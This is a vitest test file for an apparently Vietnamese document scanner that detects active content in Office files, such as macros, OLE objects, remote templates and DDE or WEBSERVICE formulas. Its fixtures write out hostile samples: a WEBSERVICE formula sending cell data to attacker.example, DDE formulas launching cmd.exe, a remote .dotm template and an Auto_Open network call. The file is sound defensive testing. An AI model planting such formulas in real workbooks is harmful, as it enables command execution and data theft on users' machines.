import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { findActiveContent, formulaReachesOut } from "./active-content.js";
import { sampleDocx, sampleXlsx, sampleZip } from "./samples.test-support.js";

const xlsxWith = async (edit: (sheet: ExcelJS.Worksheet) => void) => {
  const workbook = new ExcelJS.Workbook();
  edit(workbook.addWorksheet("Số liệu"));
  return Buffer.from(await workbook.xlsx.writeBuffer());
};

describe("findActiveContent", () => {
  it("finds nothing in plain documents", async () => {
    expect(await findActiveContent(sampleDocx())).toEqual([]);
    expect(await findActiveContent(sampleXlsx())).toEqual([]);
    const plain = await xlsxWith((sheet) => {
      sheet.getCell("A1").value = 12;
      sheet.getCell("A2").value = { formula: "SUM(A1:A1)" };
      sheet.getCell("B1").value = "Tổng | hợp"; // a bar in text is not a formula
      sheet.getCell("B2").value = { formula: 'CONCAT("Tổng|",B1)' }; // nor a bar in a formula's text
    });
    expect(await findActiveContent(plain)).toEqual([]);
  });

  it("finds network and DDE formulas in a real workbook", async () => {
    const web = await xlsxWith((sheet) => {
      sheet.getCell("A1").value = { formula: 'WEBSERVICE("http://attacker.example/?q="&B1)' };
    });
    expect(await findActiveContent(web)).toEqual([expect.stringContaining("WEBSERVICE")]);
    const dde = await xlsxWith((sheet) => {
      sheet.getCell("A1").value = { formula: "cmd|' /C calc'!A0" };
    });
    expect(await findActiveContent(dde)).toEqual([expect.stringContaining("DDE")]);
  });

  it("finds macros, external links, remote templates, embedded objects and stray files", async () => {
    const findings = await findActiveContent(
      sampleZip({
        "[Content_Types].xml": "<Types/>",
        "word/document.xml": "<w:document/>",
        "word/vbaProject.bin": "macro",
        "word/embeddings/oleObject1.bin": "ole",
        "word/_rels/settings.xml.rels":
          '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
        "payload.exe": "MZ",
      }),
    );
    expect(findings).toEqual(
      expect.arrayContaining([
        "có macro (VBA)",
        "có đối tượng nhúng (OLE) từ chương trình khác",
        "có liên kết tự tải nội dung từ bên ngoài khi mở",
        "có liên kết tới sổ làm việc bên ngoài",
        "có tệp lạ trong tài liệu (“payload.exe”)",
      ]),
    );
  });

  it("tells a DDE call or a network function from text in quotes", () => {
    expect(formulaReachesOut("cmd|' /C calc'!A0")).toBe(true);
    expect(formulaReachesOut("=1+msexcel|'\\..\\..\\Windows\\System32\\cmd.exe'!''")).toBe(true);
    expect(formulaReachesOut('FILTERXML(WEBSERVICE("http://x.example"),"//a")')).toBe(true);
    expect(formulaReachesOut('IF(A1="a|b","WEBSERVICE(",0)')).toBe(false);
    expect(formulaReachesOut("SUM(A1:A9)")).toBe(false);
  });

  it("finds a remote template however the part is cut into pieces", async () => {
    // The unpacked bytes come in 64 kB pieces: put the relationship across the first cut, its
    // type far before it and its target mode after.
    const relationship =
      '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
      `Target="http://attacker.example/${"a".repeat(3000)}.dotm" TargetMode="External"/>`;
    const padding = `<!--${"x".repeat(65536 - 1500 - 7)}-->`;
    const doc = sampleZip({
      "[Content_Types].xml": "<Types/>",
      "word/document.xml": "<w:document/>",
      "word/_rels/settings.xml.rels": `<Relationships>${padding}${relationship}</Relationships>`,
    });
    expect(await findActiveContent(doc)).toEqual(["có liên kết tự tải nội dung từ bên ngoài khi mở"]);
  });

  it("finds Excel 4.0 macro sheets and network calls in defined names", async () => {
    const book = sampleZip({
      "[Content_Types].xml": "<Types/>",
      "xl/workbook.xml":
        '<workbook><definedNames><definedName name="Auto_Open">WEBSERVICE(&quot;http://x.example&quot;)</definedName></definedNames></workbook>',
      "xl/macrosheets/sheet1.xml": "<xm:macrosheet/>",
    });
    expect(await findActiveContent(book)).toEqual(
      expect.arrayContaining(["có macro Excel 4.0 (XLM)", expect.stringContaining("WEBSERVICE")]),
    );
  });

  it("stops at what the scanned parts may unpack to", async () => {
    const big = sampleZip({
      "[Content_Types].xml": "<Types/>",
      "xl/worksheets/sheet1.xml": `<worksheet>${"<c><v>1</v></c>".repeat(2000)}</worksheet>`,
    });
    expect(await findActiveContent(big, 10_000)).toBe("too_large");
    expect(await findActiveContent(big)).toEqual([]);
  });

  it("leaves an ordinary hyperlink alone", async () => {
    const doc = sampleZip({
      "[Content_Types].xml": "<Types/>",
      "word/document.xml": "<w:document/>",
      "word/_rels/document.xml.rels":
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://monre.gov.vn" TargetMode="External"/></Relationships>',
    });
    expect(await findActiveContent(doc)).toEqual([]);
  });
});
